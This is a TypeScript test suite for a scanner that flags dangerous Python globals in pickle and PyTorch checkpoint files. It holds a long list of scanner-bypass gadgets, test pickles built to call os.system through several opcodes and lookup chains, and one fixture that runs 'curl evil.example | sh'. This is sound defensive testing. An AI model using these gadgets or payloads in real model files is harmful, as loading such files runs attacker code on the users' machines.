import assert from 'node:assert/strict';
import type { PickleGlobal } from '../../../server/src/checkpoint/checkpoint';
import { inspectCode } from '../../../server/src/checkpoint/inspectCode';
import type { CodeSafety } from '../../../server/src/scan/codeSafety';
import { codeSafetyFindings, codeSafetyVerdict } from '../../../server/src/scan/codeSafety';
import { classifyGlobal } from '../../../server/src/scan/codeSafety/classifyGlobal';
import { fixture, fixtureNames } from '../checkpoint/fixtureFiles';
import * as asm from '../checkpoint/pickleAssembler';
import { rawZip } from '../checkpoint/zipAssembler';

const imported = (path: string, changes: Partial<PickleGlobal> = {}): PickleGlobal => {
  const [module, name] = path.split(' ');
  return { module, name, entry: 'archive/data.pkl', offset: 1204, called: true, ...changes };
};

const level = (path: string, argumentsText?: string): CodeSafety =>
  classifyGlobal(imported(path, { argumentsText })).level;
const findings = (bytes: Uint8Array) => codeSafetyFindings(inspectCode(bytes, 'f'));
const verdict = (bytes: Uint8Array) => codeSafetyVerdict(inspectCode(bytes, 'f'));

describe('classifyGlobal', () => {
  /** Every way around a scanner that was ever reported for picklescan, modelscan or fickling, and the plain ones. */
  const dangerous = `os system;posix system;nt system;os popen;os.path system;subprocess Popen;subprocess check_output;
    builtins eval;builtins exec;builtins compile;builtins open;builtins getattr;builtins setattr;builtins __import__;
    builtins breakpoint;builtins globals;builtins input;__builtin__ eval;__builtin__ execfile;__builtin__ apply;
    commands getoutput;cPickle loads;sys exit;sys modules;pty spawn;runpy run_path;runpy _run_code;socket socket;
    shutil rmtree;importlib import_module;importlib.util spec_from_file_location;ctypes CDLL;ctypes.util find_library;
    pickle loads;_pickle loads;dill loads;cloudpickle loads;joblib load;marshal loads;types FunctionType;types CodeType;
    torch load;torch.hub load;torch.serialization load;torch.jit load;operator attrgetter;operator methodcaller;
    operator itemgetter;_operator attrgetter;pkgutil resolve_name;webbrowser open;codecs decode;codecs open;
    _codecs decode;code InteractiveInterpreter;code InteractiveInterpreter.runcode;cProfile run;cProfile runctx;
    profile Profile.run;doctest debug_script;ensurepip _run_pip;idlelib.run Executive.runcode;
    idlelib.autocomplete AutoComplete.get_entity;lib2to3.pgen2.grammar Grammar.loads;pdb run;bdb Bdb.run;pip main;
    pydoc pipepager;pydoc locate;timeit timeit;trace Trace.run;venv create;asyncio run;
    asyncio.unix_events _UnixSubprocessTransport._start;multiprocessing.util spawnv_passfds;distutils.file_util write_file;
    numpy.testing._private.utils runstring;numpy.f2py.crackfortran getlincoef;numpy load;numpy.ctypeslib load_library;
    pandas read_pickle;torch._dynamo.guards GuardBuilder.get;torch._inductor.codecache compile_file;
    torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression;torch.fx.graph_module reduce_graph_module;
    torch.jit.unsupported_tensor_ops execWrapper;torch.utils._config_module ConfigModule.load_config;
    torch.utils.bottleneck.__main__ run_cprofile;torch.utils.collect_env run;torch.utils.cpp_extension load_inline;
    torch.utils.data.datapipes.utils.decoder basichandlers;aiohttp request;requests.api get;httplib HTTPSConnection;
    http.client HTTPSConnection;urllib.request urlopen;urllib2 urlopen;ssl get_server_certificate;smtplib SMTP;
    imaplib IMAP4_stream;tempfile NamedTemporaryFile;io open;_io FileIO;pathlib Path.write_text;pathlib os.system;
    sqlite3 connect;zipimport zipimporter;atexit register;signal signal;threading Thread;weakref finalize;
    logging FileHandler;logging.config dictConfig;copyreg add_extension;yaml load;jinja2 Template;
    torch.serialization os.system;torch os.system;collections _sys.modules;random _os.system;
    torch.nn.modules.linear Linear.forward.__globals__;torch.nn Module.__init__.__globals__;
    numpy.core.multiarray sys;collections.abc sys;uuid _get_command_stdout;torch FloatStorage.from_file;(computed) system`;
  for (const path of dangerous.split(/;\s*/)) {
    it(`${path.replace(' ', '.')} is dangerous`, () => assert.equal(level(path), 'dangerous'));
  }

  const safe = `collections OrderedDict;torch._utils _rebuild_tensor_v2;torch FloatStorage;torch.cuda HalfStorage;
    torch.storage UntypedStorage;torch Size;torch float16;torch device;torch.nn.parameter Parameter;
    torch._tensor _rebuild_from_type_v2;torch.tensor _rebuild_from_type_v2;torch.serialization _get_layout;
    numpy.core.multiarray _reconstruct;numpy._core.multiarray scalar;numpy dtype;numpy ndarray;_codecs encode;
    builtins set;__builtin__ set;__builtin__ unicode;copy_reg _reconstructor;argparse Namespace;datetime datetime;
    pathlib PosixPath;torch.nn.modules.linear Linear;torch.nn.modules.container Sequential;
    torch.nn.modules.batchnorm BatchNorm1d;torch.nn.functional relu;collections defaultdict;inspect Parameter;__torch__.Model Model`;
  for (const path of safe.split(/;\s*/)) {
    it(`${path.replace(' ', '.')} is known to be safe`, () => assert.equal(level(path), 'safe'));
  }

  const unknown = `__main__ GIN;models.gin GIN;torch_geometric.nn.conv.gin_conv GINConv;functools partial;
    torch.storage _load_from_bytes;torch.optim.adam Adam;numpy.linalg norm;sklearn.pipeline Pipeline;
    code.models GIN;test.models GIN;types.model Net;copyreg _inverted_registry[7];__torch__.torch.classes.my.Thing Thing;
    torch.nn.modules.linear F;torch.nn.modules.linear Linear.forward;my_module Thing`;
  for (const path of unknown.split(/;\s*/)) {
    it(`${path.replace(' ', '.')} is unknown`, () => assert.equal(level(path), 'unknown'));
  }

  it('takes the lookup of a PyTorch function for what it is, and no other lookup', () => {
    assert.equal(level('builtins getattr', 'torch._C._VariableFunctionsClass, "relu"'), 'unknown');
    assert.equal(level('__builtin__ getattr', 'torch._C.TensorBase, "tanh"'), 'unknown');
    for (const text of [
      'torch._C._VariableFunctionsClass, "__init__"',
      'torch._C._VariableFunctionsClass, "from_file"',
      'os, "system"',
      'torch._C, "relu"',
      'torch._C._VariableFunctionsClass, "relu", os.system',
      '"torch._C._VariableFunctionsClass, \\"relu"',
    ]) {
      assert.equal(level('builtins getattr', text), 'dangerous', text);
    }
  });

  it('gives a reason for every level', () => {
    for (const path of ['os system', 'collections OrderedDict', '__main__ GIN', 'my_module Thing']) {
      assert.match(classifyGlobal(imported(path)).reason, /^[a-z].*[^.]$/);
    }
    assert.match(classifyGlobal(imported('__main__ GIN')).reason, /script that saved the whole model/);
  });
});

describe('codeSafetyFindings', () => {
  it('names callable, arguments, byte and entry of a call', () => {
    const bytes = rawZip([
      {
        name: 'archive/data.pkl',
        data: asm.bytesOf(
          asm.proto(2),
          Buffer.alloc(600, 'N0'),
          asm.callWithText('os', 'system', 'curl evil.example | sh'),
          '.',
        ),
      },
    ]);
    const [finding, ...rest] = findings(bytes);
    assert.deepEqual(rest, []);
    assert.equal(finding.code, 'GN101');
    assert.equal(finding.severity, 'error');
    assert.equal(
      finding.message,
      'Loading this file runs os.system("curl evil.example | sh") at byte 602 of archive/data.pkl',
    );
    assert.deepEqual(finding.place, { entry: 'archive/data.pkl', offset: 602 });
    assert.match(finding.details[0], /os\.system runs programs or commands/);
  });

  it('writes large offsets readably, and no entry for plain pickles', () => {
    const global = imported('os system', { entry: '', argumentsText: '"x"' });
    const [{ message, place }] = codeSafetyFindings({ globals: [global], anomalies: [] });
    assert.equal(message, 'Loading this file runs os.system("x") at byte 1,204');
    assert.deepEqual(place, { offset: 1204 });
  });

  it('says of an import without call that it is one', () => {
    const [{ message }] = codeSafetyFindings({ globals: [imported('os system', { called: false })], anomalies: [] });
    assert.equal(message, 'Loading this file imports os.system at byte 1,204 of archive/data.pkl');
  });

  it('groups unknown callables by name and says that they are no proof', () => {
    const globals = [imported('m A'), imported('m A', { offset: 5000 }), imported('m B', { called: false })];
    const result = codeSafetyFindings({ globals, anomalies: [] });
    assert.deepEqual(
      result.map(({ code, severity, message }) => `${code} ${severity}: ${message}`),
      [
        'GN102 warning: Loading this file calls m.A at byte 1,204 of archive/data.pkl (2 times), which is outside the known-safe list',
        'GN102 warning: Loading this file imports m.B at byte 1,204 of archive/data.pkl, which is outside the known-safe list',
      ],
    );
  });

  it('names what each finding is about the same wherever it is in the file', () => {
    const globals = [imported('os system', { argumentsText: '"id"' }), imported('m A')];
    const subjects = (offset: number, entry: string): (string | undefined)[] =>
      codeSafetyFindings({
        globals: globals.map((global) => ({ ...global, offset, entry })),
        anomalies: [{ entry, offset, reason: 'its CRC-32 does not match' }],
      }).map(({ subject }) => subject);
    assert.deepEqual(subjects(1, 'archive/data.pkl'), ['os.system("id")', 'm.A', 'its CRC-32 does not match']);
    assert.deepEqual(subjects(1, 'archive/data.pkl'), subjects(2, 'gin/data.pkl'));
  });

  it('says nothing about what is known to be safe', () => {
    assert.deepEqual(codeSafetyFindings({ globals: [imported('collections OrderedDict')], anomalies: [] }), []);
  });

  it('reports each kind of anomaly once, with its place', () => {
    const reason = 'its CRC-32 does not match';
    const result = codeSafetyFindings({
      globals: [],
      anomalies: [{ entry: 'a/1', offset: 7, reason }, { entry: 'a/2', reason }, { reason: 'bytes \u202e before' }],
    });
    assert.deepEqual(
      result.map(({ code, message, place }) => ({ code, message, place })),
      [
        {
          code: 'GN103',
          message: `Malformed container: a/1: ${reason} (and 1 more like it)`,
          place: { entry: 'a/1', offset: 7 },
        },
        {
          code: 'GN103',
          message: 'Malformed container: bytes \\u{202e} before',
          place: { entry: undefined, offset: undefined },
        },
      ],
    );
  });

  it('shows names as they are, not as they would like to be seen', () => {
    const [{ message }] = codeSafetyFindings({
      globals: [imported('\u043es.x \u202esys', { argumentsText: '' })],
      anomalies: [],
    });
    assert.ok(message.includes('\\u{43e}s.x.\\u{202e}sys'));
  });

  it('cuts names that no line could hold', () => {
    const global = imported(`${'x'.repeat(10_000)} y`, { entry: 'z'.repeat(10_000) });
    const [{ message }] = codeSafetyFindings({ globals: [global], anomalies: [] });
    assert.ok(message.length < 400);
  });

  it('stays readable however much there is', () => {
    const globals = Array.from({ length: 500 }, (_, i) => imported('os system', { argumentsText: `"${i}"` }));
    const result = codeSafetyFindings({ globals, anomalies: [] });
    assert.ok(result.length <= 20);
    assert.match(result[result.length - 1].details.join(' '), /480 more/);
  });

  it('finds a payload through every opcode that calls', () => {
    const calls = [
      asm.callWithText('os', 'system', 'id'),
      asm.bytesOf(asm.stackGlobal('os', 'system'), asm.text('id'), asm.op('TUPLE1'), asm.reduce),
      asm.bytesOf(asm.mark, asm.text('id'), asm.op('INST', 'os\nsystem\n')),
      asm.bytesOf(asm.mark, asm.global('os', 'system'), asm.text('id'), asm.op('OBJ')),
      asm.bytesOf(asm.global('os', 'system'), asm.text('id'), asm.op('TUPLE1'), asm.op('NEWOBJ')),
    ];
    for (const call of calls) {
      const [{ code, message }] = findings(asm.stream(call));
      assert.equal(code, 'GN101');
      assert.match(message, /runs os\.system\("id"\)/);
    }
  });

  it('sees through chains of lookups', () => {
    const chain = asm.stream(
      asm.global('builtins', 'getattr'),
      asm.bytesOf(asm.global('builtins', '__import__'), asm.text('os'), asm.op('TUPLE1'), asm.reduce),
      asm.bytesOf(asm.text('system'), asm.op('TUPLE2'), asm.reduce),
      asm.bytesOf(asm.text('id'), asm.op('TUPLE1'), asm.reduce),
    );
    const messages = findings(chain).map(({ message }) => message);
    assert.ok(messages.some((message) => message.includes('builtins.__import__("os")')));
    assert.ok(messages.some((message) => message.includes('builtins.getattr(builtins.__import__("os"), "system")')));
  });
});

describe('codeSafetyVerdict', () => {
  const expected: Readonly<Record<string, CodeSafety>> = {
    'plain.pkl': 'unknown',
    'whole-module.pt': 'unknown',
    'wrapped-module.pt': 'unknown',
  };
  for (const name of fixtureNames) {
    it(`finds ${name} ${expected[name] ?? 'safe'}`, () => {
      assert.equal(verdict(fixture(name)), expected[name] ?? 'safe');
      const codes = new Set(findings(fixture(name)).map(({ code }) => code));
      assert.deepEqual([...codes], expected[name] === undefined ? [] : ['GN102']);
    });
  }

  it('is dangerous wherever a payload is', () => {
    for (const bytes of [
      asm.systemCall,
      rawZip([{ name: 'a/data.pkl', data: asm.systemCall }]),
      asm.bytesOf(fixture('legacy.pt').subarray(0, 15), asm.systemCall),
      asm.bytesOf(asm.systemCall, fixture('state-dict.pt')),
    ]) {
      assert.equal(verdict(bytes), 'dangerous');
    }
  });

  it('is never safe by default', () => {
    assert.equal(verdict(Buffer.from('no format at all')), 'unknown');
    assert.equal(verdict(asm.stream(asm.global('some.module', 'thing'))), 'unknown');
    assert.equal(verdict(asm.bytesOf(fixture('state-dict.pt'), 'trailing')), 'unknown');
    assert.equal(verdict(fixture('state-dict.pt').subarray(0, 4000)), 'unknown');
    assert.equal(codeSafetyVerdict({ globals: [], anomalies: [{ reason: 'odd' }] }), 'unknown');
    assert.equal(codeSafetyVerdict({ globals: [], anomalies: [] }), 'safe');
  });
});
